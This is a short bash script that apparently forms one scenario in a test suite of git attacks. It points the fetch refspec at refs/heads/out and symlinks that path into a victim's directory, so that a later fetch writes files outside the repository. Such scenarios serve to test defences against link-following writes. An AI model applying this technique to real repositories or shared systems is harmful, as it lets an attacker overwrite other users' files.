#!/bin/bash -e
# refs/heads has a link to a directory of the user.
# host: branch, fetch
# harm: writes
# alone
git config remote.origin.fetch '+refs/heads/*:refs/heads/out/*'
ln -s "$VICTIM/empty" "$COMMON/refs/heads/out"
